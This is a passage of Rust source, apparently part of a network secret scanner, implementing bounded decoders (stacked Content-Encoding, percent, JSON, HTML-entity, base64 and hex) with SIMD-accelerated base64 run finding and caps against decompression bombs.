//! Decoded views of inspected bytes, all bounded.
//!
//! Attackers hide secrets behind encodings, so the scanner also looks at the
//! text as a real client would read it: `Content-Encoding` (gzip, deflate, br,
//! zstd, stacked), percent-encoding, JSON string escapes, HTML entities and
//! embedded base64. Every decoder here works on a *copy*: forwarded bytes are
//! never touched. Output is capped so a decompression bomb costs at most the
//! cap, not the bomb.

use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
use base64::engine::DecodePaddingMode;
use base64::Engine as _;
use std::io::{self, Write};
use std::ops::Range;

/// One supported `Content-Encoding` token.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ContentCoding {
    Gzip,
    Deflate,
    Brotli,
    Zstd,
}

impl ContentCoding {
    pub const fn label(self) -> &'static str {
        match self {
            ContentCoding::Gzip => "gzip",
            ContentCoding::Deflate => "deflate",
            ContentCoding::Brotli => "br",
            ContentCoding::Zstd => "zstd",
        }
    }
}

/// A `Content-Encoding` header this scanner cannot decode.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("unsupported content-encoding token")]
pub struct UnsupportedCoding;

/// Parses a `Content-Encoding` value into the codings in the order they must
/// be *undone* (last applied first). `identity` and empty tokens are skipped.
pub fn parse_content_encoding(value: &str) -> Result<Vec<ContentCoding>, UnsupportedCoding> {
    let mut out = Vec::new();
    for token in value.split(',').map(str::trim).filter(|t| !t.is_empty()) {
        let coding = match token.to_ascii_lowercase().as_str() {
            "gzip" | "x-gzip" => ContentCoding::Gzip,
            "deflate" => ContentCoding::Deflate,
            "br" => ContentCoding::Brotli,
            "zstd" => ContentCoding::Zstd,
            "identity" => continue,
            _ => return Err(UnsupportedCoding),
        };
        out.push(coding);
    }
    out.reverse();
    Ok(out)
}

/// A `Write` sink that keeps at most `cap` bytes and then refuses more, so a
/// decoder writing into it aborts instead of inflating a bomb.
#[derive(Debug)]
struct CappedSink {
    buf: Vec<u8>,
    /// Bytes still allowed in total.
    remaining: usize,
    overflowed: bool,
}

impl Write for CappedSink {
    fn write(&mut self, data: &[u8]) -> io::Result<usize> {
        if data.is_empty() {
            return Ok(0);
        }
        if self.remaining == 0 {
            self.overflowed = true;
            return Err(io::Error::other("decoded size cap reached"));
        }
        let n = data.len().min(self.remaining);
        self.buf.extend_from_slice(&data[..n]);
        self.remaining -= n;
        Ok(n)
    }
    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// zstd frames asking for a window above 2^23 (8 MiB) are refused: that is
/// the decoder's memory bound.
const ZSTD_WINDOW_LOG_MAX: u32 = 23;

enum Stage {
    Gzip(Box<flate2::write::MultiGzDecoder<CappedSink>>),
    Zlib(Box<flate2::write::ZlibDecoder<CappedSink>>),
    RawDeflate(Box<flate2::write::DeflateDecoder<CappedSink>>),
    /// `deflate` is zlib-wrapped by the RFC but raw in the wild: decide on the first byte.
    DeflateUndecided(CappedSink),
    Brotli(Box<brotli_decompressor::DecompressorWriter<CappedSink>>),
    Zstd(Box<zstd::stream::write::Decoder<'static, CappedSink>>),
}

impl Stage {
    fn new(coding: ContentCoding, cap: usize) -> io::Result<Stage> {
        let sink = CappedSink {
            buf: Vec::new(),
            remaining: cap,
            overflowed: false,
        };
        Ok(match coding {
            ContentCoding::Gzip => Stage::Gzip(Box::new(flate2::write::MultiGzDecoder::new(sink))),
            ContentCoding::Deflate => Stage::DeflateUndecided(sink),
            ContentCoding::Brotli => Stage::Brotli(Box::new(
                brotli_decompressor::DecompressorWriter::new(sink, 4096),
            )),
            ContentCoding::Zstd => {
                let mut d = zstd::stream::write::Decoder::new(sink)?;
                d.window_log_max(ZSTD_WINDOW_LOG_MAX)?;
                Stage::Zstd(Box::new(d))
            }
        })
    }

    fn write_all(&mut self, data: &[u8]) -> io::Result<()> {
        if let Stage::DeflateUndecided(_) = self {
            let Some(&first) = data.first() else {
                return Ok(());
            };
            let placeholder = Stage::DeflateUndecided(CappedSink {
                buf: Vec::new(),
                remaining: 0,
                overflowed: false,
            });
            if let Stage::DeflateUndecided(sink) = std::mem::replace(self, placeholder) {
                // A zlib header has CM=8 in the low nibble and a valid check.
                *self = if first & 0x0f == 8 {
                    Stage::Zlib(Box::new(flate2::write::ZlibDecoder::new(sink)))
                } else {
                    Stage::RawDeflate(Box::new(flate2::write::DeflateDecoder::new(sink)))
                };
            }
        }
        match self {
            Stage::Gzip(d) => d.write_all(data),
            Stage::Zlib(d) => d.write_all(data),
            Stage::RawDeflate(d) => d.write_all(data),
            Stage::DeflateUndecided(_) => Ok(()),
            Stage::Brotli(d) => d.write_all(data),
            Stage::Zstd(d) => d.write_all(data),
        }
    }

    fn finish(&mut self) -> io::Result<()> {
        match self {
            Stage::Gzip(d) => d.try_finish(),
            Stage::Zlib(d) => d.try_finish(),
            Stage::RawDeflate(d) => d.try_finish(),
            Stage::DeflateUndecided(_) => Ok(()),
            Stage::Brotli(d) => d.flush(),
            Stage::Zstd(d) => d.flush(),
        }
    }

    fn sink(&mut self) -> &mut CappedSink {
        match self {
            Stage::Gzip(d) => d.get_mut(),
            Stage::Zlib(d) => d.get_mut(),
            Stage::RawDeflate(d) => d.get_mut(),
            Stage::DeflateUndecided(s) => s,
            Stage::Brotli(d) => d.get_mut(),
            Stage::Zstd(d) => d.get_mut(),
        }
    }
}

/// Why a streaming decode stopped producing output.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DecodeStop {
    /// The decoded size cap was reached (possibly a bomb); the rest is not inspected.
    Capped,
    /// The compressed stream was corrupt or unsupported.
    Failed,
}

/// Streaming decoder for a (possibly stacked) `Content-Encoding`.
/// Feed compressed chunks, get decoded chunks; total output never exceeds `cap`.
pub struct StreamDecoder {
    stages: Vec<Stage>,
    stopped: Option<DecodeStop>,
    label: String,
}

impl std::fmt::Debug for StreamDecoder {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("StreamDecoder")
            .field("label", &self.label)
            .field("stopped", &self.stopped)
            .finish()
    }
}

impl StreamDecoder {
    /// `codings` in undo order, as returned by [`parse_content_encoding`].
    pub fn new(codings: &[ContentCoding], cap: usize) -> StreamDecoder {
        let mut stages = Vec::with_capacity(codings.len());
        let mut stopped = None;
        for &c in codings {
            match Stage::new(c, cap) {
                Ok(s) => stages.push(s),
                Err(_) => stopped = Some(DecodeStop::Failed),
            }
        }
        let label = codings
            .iter()
            .map(|c| c.label())
            .collect::<Vec<_>>()
            .join(">");
        StreamDecoder {
            stages,
            stopped,
            label,
        }
    }

    /// The decoding chain label, e.g. `gzip` or `br>gzip`.
    pub fn label(&self) -> &str {
        &self.label
    }

    pub fn stopped(&self) -> Option<DecodeStop> {
        self.stopped
    }

    /// Pushes compressed bytes; returns newly decoded bytes (possibly empty).
    pub fn push(&mut self, data: &[u8]) -> Vec<u8> {
        self.run(data, false)
    }

    /// Ends the stream; returns any remaining decoded bytes.
    pub fn finish(&mut self) -> Vec<u8> {
        self.run(&[], true)
    }

    fn run(&mut self, data: &[u8], last: bool) -> Vec<u8> {
        if self.stopped.is_some() {
            return Vec::new();
        }
        let mut current = data.to_vec();
        for stage in &mut self.stages {
            let mut result = if current.is_empty() {
                Ok(())
            } else {
                stage.write_all(&current)
            };
            // A stage that stopped upstream of this one still hands over
            // what it produced: flush this stage so that part is decoded.
            if result.is_ok() && (last || self.stopped.is_some()) {
                result = stage.finish();
            }
            let sink = stage.sink();
            let overflowed = sink.overflowed;
            // Only the last stage's output is text; an inner stage's output
            // is still encoded and only ever feeds the next stage.
            current = std::mem::take(&mut sink.buf);
            if result.is_err() && self.stopped.is_none() {
                self.stopped = Some(if overflowed {
                    DecodeStop::Capped
                } else {
                    DecodeStop::Failed
                });
            }
        }
        current
    }
}

/// Decodes a whole body with its `Content-Encoding`, capped at `cap` bytes.
pub fn decode_body(
    codings: &[ContentCoding],
    body: &[u8],
    cap: usize,
) -> (Vec<u8>, Option<DecodeStop>) {
    let mut d = StreamDecoder::new(codings, cap);
    let mut out = d.push(body);
    if d.stopped().is_none() {
        out.extend(d.finish());
    }
    (out, d.stopped())
}

/// The value of each hex digit (0 for other bytes: read only for digits).
static HEX_VALUE: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        let b = i as u8;
        t[i] = match b {
            b'0'..=b'9' => b - b'0',
            b'a'..=b'f' => b - b'a' + 10,
            b'A'..=b'F' => b - b'A' + 10,
            _ => 0,
        };
        i += 1;
    }
    t
};

fn hex_val(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

/// Percent-decodes `%XX` sequences. `+` is kept: it is a space only in forms,
/// and base64 secrets contain it. Returns `None` when nothing was decoded.
pub fn percent_decode(text: &[u8]) -> Option<Vec<u8>> {
    memchr::memchr(b'%', text)?;
    let mut out = Vec::with_capacity(text.len());
    let mut changed = false;
    let mut i = 0;
    while i < text.len() {
        if text[i] == b'%' && i + 2 < text.len() {
            if let (Some(h), Some(l)) = (hex_val(text[i + 1]), hex_val(text[i + 2])) {
                out.push(h << 4 | l);
                i += 3;
                changed = true;
                continue;
            }
        }
        out.push(text[i]);
        i += 1;
    }
    changed.then_some(out)
}

/// Undoes JSON string escapes (`\/`, `\"`, `\\`, `\n`, `\uXXXX` incl.
/// surrogate pairs). Returns `None` when the text has no `\u` or `\/`
/// escapes and no `\"` opening a shell expansion (plain `\n` or `\"`
/// alone hides nothing).
pub fn json_unescape(text: &[u8]) -> Option<Vec<u8>> {
    let has_trigger = memchr::memmem::find(text, b"\\u").is_some()
        || memchr::memmem::find(text, b"\\/").is_some()
        || memchr::memmem::find(text, b"\\\"$").is_some()
        || memchr::memmem::find(text, b"\\\"`").is_some();
    if !has_trigger {
        return None;
    }
    Some(json_decode(text))
}

/// Undoes every JSON string escape of `text`, line breaks included: the
/// view of a region that starts at an escaped line break before a command
/// or a chat turn ([`BackslashTriggers::json_line`]). `None` when the text
/// holds no backslash.
pub fn json_unescape_lines(text: &[u8]) -> Option<Vec<u8>> {
    memchr::memchr(b'\\', text).map(|_| json_decode(text))
}

fn json_decode(text: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    let mut i = 0;
    let mut pending_high: Option<u32> = None;
    while i < text.len() {
        if text[i] == b'\\' && i + 1 < text.len() {
            let e = text[i + 1];
            let simple = match e {
                b'/' => Some(b'/'),
                b'"' => Some(b'"'),
                b'\\' => Some(b'\\'),
                b'n' => Some(b'\n'),
                b'r' => Some(b'\r'),
                b't' => Some(b'\t'),
                b'b' => Some(0x08),
                b'f' => Some(0x0c),
                _ => None,
            };
            if let Some(c) = simple {
                out.push(c);
                i += 2;
                continue;
            }
            if e == b'u' && i + 6 <= text.len() {
                let digits = &text[i + 2..i + 6];
                let mut v: u32 = 0;
                let mut ok = true;
                for &d in digits {
                    match hex_val(d) {
                        Some(h) => v = v << 4 | u32::from(h),
                        None => ok = false,
                    }
                }
                if ok {
                    i += 6;
                    if (0xD800..0xDC00).contains(&v) {
                        pending_high = Some(v);
                        continue;
                    }
                    let cp = match pending_high.take() {
                        Some(h) if (0xDC00..0xE000).contains(&v) => {
                            0x10000 + ((h - 0xD800) << 10) + (v - 0xDC00)
                        }
                        _ => v,
                    };
                    let ch = char::from_u32(cp).unwrap_or('\u{FFFD}');
                    let mut buf = [0u8; 4];
                    out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
                    continue;
                }
            }
        }
        out.push(text[i]);
        i += 1;
    }
    out
}

/// The character an entity at the start of `rest` (just after `&`) stands
/// for, and the entity's length including the `;`.
fn html_entity(rest: &[u8]) -> Option<(char, usize)> {
    let window = &rest[..rest.len().min(11)];
    let semi = memchr::memchr(b';', window)?;
    let name = &window[..semi];
    let code: u32 = if let Some(num) = name.strip_prefix(b"#") {
        let (digits, radix) = match num.first() {
            Some(b'x') | Some(b'X') => (&num[1..], 16),
            _ => (num, 10),
        };
        std::str::from_utf8(digits)
            .ok()
            .filter(|d| !d.is_empty())
            .and_then(|d| u32::from_str_radix(d, radix).ok())?
    } else {
        u32::from(match name {
            b"amp" => '&',
            b"lt" => '<',
            b"gt" => '>',
            b"quot" => '"',
            b"apos" => '\'',
            b"sol" => '/',
            b"nbsp" => ' ',
            b"colon" => ':',
            b"vert" | b"verbar" => '|',
            b"dollar" => '$',
            _ => return None,
        })
    };
    Some((char::from_u32(code)?, semi + 1))
}

/// Decodes numeric (`&#47;`, `&#x2F;`) and the common named HTML entities.
/// Returns `None` when the text has no entity. Jumps from `&` to `&` and
/// allocates only once an entity decodes: `&&` in scripts and `&` in query
/// strings cost a `memchr`, not a copy.
pub fn html_unescape(text: &[u8]) -> Option<Vec<u8>> {
    let mut out: Option<Vec<u8>> = None;
    let mut copied = 0;
    for amp in memchr::memchr_iter(b'&', text) {
        if amp < copied {
            continue; // inside an entity already decoded
        }
        let Some((ch, len)) = html_entity(&text[amp + 1..]) else {
            continue;
        };
        let buf = out.get_or_insert_with(|| Vec::with_capacity(text.len()));
        buf.extend_from_slice(&text[copied..amp]);
        let mut utf8 = [0u8; 4];
        buf.extend_from_slice(ch.encode_utf8(&mut utf8).as_bytes());
        copied = amp + 1 + len;
    }
    let mut buf = out?;
    buf.extend_from_slice(&text[copied..]);
    Some(buf)
}

/// The `%XX` escape `percent_decode` decodes at `i` (where `text[i]` is
/// `%`), if there is one.
pub(crate) fn percent_escape_at(text: &[u8], i: usize) -> Option<Range<usize>> {
    let h = *text.get(i + 1)?;
    let l = *text.get(i + 2)?;
    (hex_val(h).is_some() && hex_val(l).is_some()).then_some(i..i + 3)
}

/// The entity `html_unescape` decodes at `amp` (where `text[amp]` is `&`),
/// if there is one.
pub(crate) fn html_entity_at(text: &[u8], amp: usize) -> Option<Range<usize>> {
    let (_, len) = html_entity(text.get(amp + 1..)?)?;
    Some(amp..amp + 1 + len)
}

/// Shortest base64 run decoded on the 90 % text rule (18 bytes of payload).
pub const BASE64_MIN_RUN: usize = 24;
/// Shortest base64 run found at all (12 bytes of payload): runs shorter than
/// [`BASE64_MIN_RUN`] are decoded only when padded (`=` follows), and kept
/// only when every decoded byte is text.
pub const BASE64_SHORT_RUN: usize = 16;
/// Longest base64 run decoded; longer runs are images or archives.
pub const BASE64_MAX_RUN: usize = 64 * 1024;

const B64_LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const B64_STD: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::STANDARD, B64_LENIENT);
const B64_URL: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::URL_SAFE, B64_LENIENT);

/// Byte classes for run finding: any base64 byte, plus which alphabet only
/// the byte belongs to, so one pass over a run also tells its alphabet.
const B64_ANY: u8 = 1;
const B64_STD_ONLY: u8 = 2;
const B64_URL_ONLY: u8 = 4;

static B64_CLASS: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        let b = i as u8;
        t[i] = if b.is_ascii_alphanumeric() {
            B64_ANY
        } else if b == b'+' || b == b'/' {
            B64_ANY | B64_STD_ONLY
        } else if b == b'-' || b == b'_' {
            B64_ANY | B64_URL_ONLY
        } else {
            0
        };
        i += 1;
    }
    t
};

/// `B64_CLASS[b] != 0`, as arithmetic: the scalar mask where SSE2 is not
/// available, and the reference the SIMD mask is tested against.
#[cfg(any(test, not(all(target_arch = "x86_64", target_feature = "sse2"))))]
#[inline(always)]
fn is_base64(b: u8) -> bool {
    ((b | 0x20).wrapping_sub(b'a') < 26)
        | (b.wrapping_sub(b'0') < 10)
        | (b == b'+')
        | (b == b'/')
        | (b == b'-')
        | (b == b'_')
}

/// What [`non_text_count`] counts as text, byte by byte: its reference.
#[cfg(test)]
fn is_text_byte(b: u8) -> bool {
    (0x20..0x7f).contains(&b) || b == b'\n' || b == b'\r' || b == b'\t'
}

fn mostly_text(bytes: &[u8]) -> bool {
    // printable * 10 >= len * 9, i.e. non-text * 10 <= len.
    bytes.len() >= 12 && non_text_count(bytes) * 10 <= bytes.len()
}

/// How many bytes of `bytes` are not [`is_text_byte`]: counted 255 bytes at
/// a time into a `u8`, which the compiler turns into SIMD compares and adds
/// (a `usize` count per byte does not vectorise).
fn non_text_count(bytes: &[u8]) -> usize {
    bytes
        .chunks(255)
        .map(|chunk| {
            usize::from(chunk.iter().fold(0u8, |n, &b| {
                // 0x20..0x7f, `\t`, `\n`, `\r`: branch-free.
                let text =
                    (b.wrapping_sub(0x20) < 0x5f) | (b == b'\n') | (b == b'\r') | (b == b'\t');
                n + u8::from(!text)
            }))
        })
        .sum()
}

/// The base64 runs in `text` worth decoding: `[start, end)` of every run of
/// base64-class bytes with length in [`BASE64_MIN_RUN`, `BASE64_MAX_RUN`],
/// or from [`BASE64_SHORT_RUN`] when a `=` pads it, that does not mix the
/// standard and URL-safe alphabets, with whether it is URL-safe. Every run
/// is returned: their total length is at most the text's, so decoding them
/// all stays linear.
///
/// Bytes are classified 64 at a time into a bitmap (SIMD, 4 KiB ahead of
/// the finder: see [`Bitmap`]). Each word is then tested with shifted ANDs
/// for bytes that start a run (the byte before is not base64-class) and
/// begin 16 base64 bytes in a row; only those starts are followed to their
/// run's end, so every run is visited once, from its start. A word of prose
/// or paths (a third of the words of documentation hold a run of 16) costs
/// a few word operations. The same runs as a byte-by-byte walk (tested).
pub(crate) fn base64_runs(text: &[u8]) -> Vec<(usize, usize, bool)> {
    const _: () = assert!(BASE64_MIN_RUN == 24 && BASE64_SHORT_RUN == 16);
    let mut runs = Vec::new();
    let mut bitmap = Bitmap::new(text);
    let mut before = 0u64; // the previous word's last bit, as bit 0
    for k in 0..text.len().div_ceil(64) {
        let word = bitmap.word(k);
        let next = bitmap.word(k + 1);
        // Bit i: byte 64k + i starts a run (is base64, the byte before not).
        let first = word & !((word << 1) | before);
        before = word >> 63;
        if first == 0 {
            continue;
        }
        // Bit i: bytes 64k + i .. 64k + i + 16 are all base64-class.
        // Shifts of the pair (word, next) read on into the next word.
        let r2 = word & ((word >> 1) | (next << 63));
        let r4 = r2 & ((r2 >> 2) | ((next & (next >> 1)) << 62));
        let next4 = next & (next >> 1) & (next >> 2) & (next >> 3);
        let r8 = r4 & ((r4 >> 4) | (next4 << 60));
        let next8 = next4 & (next4 >> 4);
        let r16 = r8 & ((r8 >> 8) | (next8 << 56));
        let mut starts = first & r16;
        while starts != 0 {
            let start = 64 * k + starts.trailing_zeros() as usize;
            starts &= starts - 1;
            let end = bitmap.first_clear_bit(start).min(text.len());
            let len = end - start;
            let padded = text.get(end) == Some(&b'=');
            if (BASE64_MIN_RUN..=BASE64_MAX_RUN).contains(&len)
                || ((BASE64_SHORT_RUN..BASE64_MIN_RUN).contains(&len) && padded)
            {
                push_run(text, start, end, &mut runs);
            }
        }
    }
    runs
}

/// A mask with bits `n` and up set (none for `n >= 64`).
pub(crate) fn below_cleared(n: usize) -> u64 {
    if n >= 64 {
        0
    } else {
        u64::MAX << n
    }
}

/// Bit i of word w set when `text[64 * w + i]` is a base64-class byte (bits
/// past the text are 0), classified [`Bitmap::STEP`] words at a time as
/// the run finder reaches them: classifying a whole 1 MiB piece first left
/// its bytes out of the L1 cache by the time each run's end and alphabet
/// were read (a tenth of docs' run-finding time was one load at a run's end).
struct Bitmap<'a> {
    text: &'a [u8],
    words: Vec<u64>,
}

impl<'a> Bitmap<'a> {
    /// Words classified at a time: 4 KiB of text.
    const STEP: usize = 64;

    fn new(text: &'a [u8]) -> Self {
        Bitmap {
            text,
            words: Vec::with_capacity(text.len().div_ceil(64)),
        }
    }

    fn word(&mut self, k: usize) -> u64 {
        while self.words.len() <= k {
            let from = 64 * self.words.len();
            let Some(rest) = self.text.get(from..).filter(|r| !r.is_empty()) else {
                return 0;
            };
            let step = rest.get(..64 * Self::STEP).unwrap_or(rest);
            classify_base64(step, &mut self.words);
        }
        self.words.get(k).copied().unwrap_or(0)
    }

    /// The first bit at or after `from` that is 0 (bits past the text
    /// count as 0).
    fn first_clear_bit(&mut self, from: usize) -> usize {
        let mut k = from / 64;
        let mut clear = !self.word(k) & below_cleared(from % 64);
        while clear == 0 {
            k += 1;
            clear = !self.word(k);
        }
        64 * k + clear.trailing_zeros() as usize
    }
}

/// Pushes `[start, end)` with its alphabet unless it mixes both. The run
/// holds only base64-class bytes, so two SIMD searches (`+`/`/`, `-`/`_`)
/// tell its alphabet; most runs stop at the first byte of each search's
/// answer, and a run of letters and digits costs two vector passes.
fn push_run(text: &[u8], start: usize, end: usize, runs: &mut Vec<(usize, usize, bool)>) {
    let Some(run) = text.get(start..end) else {
        return;
    };
    let url = memchr::memchr2(b'-', b'_', run).is_some();
    let mixed = url && memchr::memchr2(b'+', b'/', run).is_some();
    if !mixed {
        runs.push((start, end, url));
    }
}

/// Appends the masks of `text` (64 bytes each, the last padded) to `out`.
fn classify_base64(text: &[u8], out: &mut Vec<u64>) {
    #[cfg(target_arch = "x86_64")]
    if std::arch::is_x86_feature_detected!("avx2") {
        simd::classify_base64(text, out);
        return;
    }
    out.extend(text.chunks(64).map(base64_mask));
}

/// Bit i set when `bytes[i]` (i < 64) is a base64-class byte.
fn base64_mask(bytes: &[u8]) -> u64 {
    // Only the text's last, short block is copied (zero bytes: not base64).
    let mut padded = [0u8; 64];
    let block: &[u8; 64] = match bytes.first_chunk::<64>() {
        Some(block) => block,
        None => {
            padded[..bytes.len()].copy_from_slice(bytes);
            &padded
        }
    };
    // Only where AVX2 is missing (`classify_base64` classifies with it),
    // and as the tests' reference.
    #[cfg(all(target_arch = "x86_64", target_feature = "sse2"))]
    {
        let mut mask = 0u64;
        for (k, sixteen) in block.chunks_exact(16).enumerate() {
            if let Ok(sixteen) = <&[u8; 16]>::try_from(sixteen) {
                mask |= u64::from(simd::base64_mask16(sixteen)) << (16 * k);
            }
        }
        mask
    }
    #[cfg(not(all(target_arch = "x86_64", target_feature = "sse2")))]
    {
        block
            .iter()
            .enumerate()
            .fold(0u64, |m, (i, &b)| m | (u64::from(is_base64(b)) << i))
    }
}

#[cfg(all(target_arch = "x86_64", target_feature = "sse2"))]
mod simd {
    use std::arch::x86_64::{
        __m128i, _mm_cmpeq_epi8, _mm_loadu_si128, _mm_min_epu8, _mm_movemask_epi8, _mm_or_si128,
        _mm_set1_epi8, _mm_sub_epi8,
    };

    /// High nibble 0..F: its group's bit (2x: 1, 3x: 2, 4x and 6x: 4, 5x: 8,
    /// 7x: 16; 0x80 and up: none).
    const B64_HI_NIBBLE: [i8; 16] = [0, 0, 1, 2, 4, 8, 4, 16, 0, 0, 0, 0, 0, 0, 0, 0];
    /// Low nibble 0..F: the groups that accept it (2x: + - /, 3x: 0-9,
    /// 4x and 6x: 1-F, 5x: 0-A and F for `_`, 7x: 0-A).
    const B64_LO_NIBBLE: [i8; 16] = [
        2 | 8 | 16,
        2 | 4 | 8 | 16,
        2 | 4 | 8 | 16,
        2 | 4 | 8 | 16,
        2 | 4 | 8 | 16,
        2 | 4 | 8 | 16,
        2 | 4 | 8 | 16,
        2 | 4 | 8 | 16,
        2 | 4 | 8 | 16,
        2 | 4 | 8 | 16,
        4 | 8 | 16,
        1 | 4,
        4,
        1 | 4,
        4,
        1 | 4 | 8,
    ];

    /// Bit i set when byte i of the 64 is a base64-class byte, with AVX2
    /// nibble lookups (two shuffles per 32 bytes). Call only when the CPU
    /// has AVX2.
    #[cfg(test)]
    pub(super) fn base64_mask64(bytes: &[u8; 64]) -> u64 {
        // SAFETY: the caller checked AVX2 at run time.
        unsafe { base64_mask64_avx2(bytes) }
    }

    /// [`super::classify_base64`] with AVX2. Call only when the CPU has it.
    pub(super) fn classify_base64(text: &[u8], out: &mut Vec<u64>) {
        // SAFETY: the caller checked AVX2 at run time.
        unsafe { classify_base64_avx2(text, out) }
    }

    #[target_feature(enable = "avx2")]
    unsafe fn classify_base64_avx2(text: &[u8], bitmap: &mut Vec<u64>) {
        let mut blocks = text.chunks_exact(64);
        for block in blocks.by_ref() {
            if let Ok(block) = <&[u8; 64]>::try_from(block) {
                // SAFETY: AVX2 is enabled here; the caller checked the CPU.
                bitmap.push(unsafe { base64_mask64_avx2(block) });
            }
        }
        let rest = blocks.remainder();
        if !rest.is_empty() {
            let mut padded = [0u8; 64];
            padded[..rest.len()].copy_from_slice(rest);
            // SAFETY: as above.
            bitmap.push(unsafe { base64_mask64_avx2(&padded) });
        }
    }

    #[target_feature(enable = "avx2")]
    #[inline]
    unsafe fn base64_mask64_avx2(bytes: &[u8; 64]) -> u64 {
        use std::arch::x86_64::{
            _mm256_and_si256, _mm256_broadcastsi128_si256, _mm256_cmpeq_epi8, _mm256_loadu_si256,
            _mm256_movemask_epi8, _mm256_set1_epi8, _mm256_setzero_si256, _mm256_shuffle_epi8,
            _mm256_srli_epi16, _mm_loadu_si128,
        };
        // A byte is base64-class when the bit its high nibble selects is set
        // for its low nibble (the two tables above).
        // SAFETY (whole block): AVX2 is enabled for this function and the
        // caller checked the CPU; the table loads read 16-byte arrays, and the two loads read bytes[0..32] and
        // bytes[32..64] of a 64-byte array.
        unsafe {
            // One 16-entry table per lane: the shuffles look up within a lane.
            let lut =
                |t: &[i8; 16]| _mm256_broadcastsi128_si256(_mm_loadu_si128(t.as_ptr().cast()));
            let hi_lut = lut(&B64_HI_NIBBLE);
            let lo_lut = lut(&B64_LO_NIBBLE);
            let nibble = _mm256_set1_epi8(0x0f);
            let zero = _mm256_setzero_si256();
            let half = |x| {
                let hi = _mm256_shuffle_epi8(
                    hi_lut,
                    _mm256_and_si256(_mm256_srli_epi16::<4>(x), nibble),
                );
                let lo = _mm256_shuffle_epi8(lo_lut, _mm256_and_si256(x, nibble));
                let none = _mm256_cmpeq_epi8(_mm256_and_si256(hi, lo), zero);
                !(_mm256_movemask_epi8(none) as u32)
            };
            let a = half(_mm256_loadu_si256(bytes.as_ptr().cast()));
            let b = half(_mm256_loadu_si256(bytes.as_ptr().add(32).cast()));
            u64::from(a) | (u64::from(b) << 32)
        }
    }

    /// Bit i set when byte i of the 16 is a base64-class byte; the same
    /// test as `is_base64`, with SSE2 (part of every x86_64 CPU).
    pub(super) fn base64_mask16(bytes: &[u8; 16]) -> u16 {
        // SAFETY: SSE2 is part of the x86_64 baseline, so these intrinsics
        // are always available; the one load reads `bytes`, exactly 16 bytes.
        unsafe {
            let x: __m128i = _mm_loadu_si128(bytes.as_ptr().cast());
            let set = |b: u8| _mm_set1_epi8(b as i8);
            // Unsigned `v <= n` as `min(v, n) == v`.
            let below = |v: __m128i, n: u8| _mm_cmpeq_epi8(_mm_min_epu8(v, set(n)), v);
            let letter = below(_mm_sub_epi8(_mm_or_si128(x, set(0x20)), set(b'a')), 25);
            let digit = below(_mm_sub_epi8(x, set(b'0')), 9);
            let special = _mm_or_si128(
                _mm_or_si128(_mm_cmpeq_epi8(x, set(b'+')), _mm_cmpeq_epi8(x, set(b'/'))),
                _mm_or_si128(_mm_cmpeq_epi8(x, set(b'-')), _mm_cmpeq_epi8(x, set(b'_'))),
            );
            let any = _mm_or_si128(_mm_or_si128(letter, digit), special);
            _mm_movemask_epi8(any) as u16
        }
    }
}

/// Whether `run` can decode to [`mostly_text`], judged from its first 16
/// characters (12 bytes, decoded exactly as in the whole run): if those
/// already hold more non-text bytes than the whole decoded run may, the run
/// is skipped without decoding it. Hashes and ids are rejected here.
fn may_decode_to_text(run: &[u8], url_safe: bool) -> bool {
    let Some(head) = run.get(..16) else {
        return true;
    };
    let mut buf = [0u8; 12];
    let engine = if url_safe { &B64_URL } else { &B64_STD };
    let Ok(n) = engine.decode_slice(head, &mut buf) else {
        return true; // let the full decode decide
    };
    let binary = buf.get(..n).map_or(0, non_text_count);
    let total = run.len() * 3 / 4;
    // mostly_text: printable * 10 >= total * 9, i.e. binary * 10 <= total.
    binary * 10 <= total
}

/// Between two decoded base64 runs in one view: a line break, and a NUL
/// that the long gaps of multi-line rules (`[^\x00]{0,3000}?`) do not cross,
/// so a match never joins two runs and what is found in one run does not
/// depend on which other runs the same scan decoded.
const SEGMENT_SEPARATOR: &[u8] = b"\n\x00\n";

/// Finds base64 runs and decodes those that turn out to be text. The decoded
/// runs are joined by [`SEGMENT_SEPARATOR`] into one view. Returns `None` if
/// none decoded.
pub fn base64_segments(text: &[u8]) -> Option<Vec<u8>> {
    encoded_segments(text, 0).base64
}

/// The views [`encoded_segments`] decodes from the base64-class runs of a
/// text, each the decoded runs joined by [`SEGMENT_SEPARATOR`].
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Segments {
    /// Base64 runs that decode to text (short runs only when padded or
    /// whole quanta, and only when every byte is printable).
    pub base64: Option<Vec<u8>>,
    /// Runs of at least [`HEX_MIN_PAIRS`] hex digit pairs (optionally
    /// `0x`-prefixed, as one number) that decode to text.
    pub hex: Option<Vec<u8>>,
    /// Base64 runs holding a gzip member (`H4sI…`), inflated to text.
    pub gzip: Option<Vec<u8>>,
}

/// Fewest hex digit pairs a hex run (or a run of `\xNN` escapes)
/// must hold to be decoded: 16 bytes of payload.
pub const HEX_MIN_PAIRS: usize = 16;

/// Appends `decoded` to a view, after a [`SEGMENT_SEPARATOR`].
fn push_segment(view: &mut Option<Vec<u8>>, decoded: &[u8]) {
    let out = view.get_or_insert_with(Vec::new);
    if !out.is_empty() {
        out.extend_from_slice(SEGMENT_SEPARATOR);
    }
    out.extend_from_slice(decoded);
}

/// Decodes a run of hex digits (even length) straight into `out`; `false`
/// (with `out` unchanged) when a byte is not a hex digit.
fn hex_decode_into(run: &[u8], out: &mut Vec<u8>) -> bool {
    if !run.len().is_multiple_of(2) {
        return false;
    }
